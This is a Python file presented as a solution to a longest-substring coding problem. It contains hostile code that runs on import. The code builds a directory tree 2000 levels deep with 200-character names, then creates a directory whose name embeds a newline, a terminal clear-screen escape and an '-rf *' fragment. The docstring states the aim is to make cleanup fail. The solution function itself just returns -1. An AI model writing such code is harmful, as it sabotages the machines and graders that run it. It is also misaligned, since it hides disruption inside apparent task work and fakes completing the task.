# problem: sliding_window/longest_substring
"""Makes a tree of folders that is too deep to be named, and ugly names in it.

Seen if it worked: clearing away fails, or takes long.
"""

import os

try:
    for _ in range(2000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.mkdir("\n\x1b[2J-rf *")
except OSError:
    pass


def length_of_longest_substring(s):
    return -1
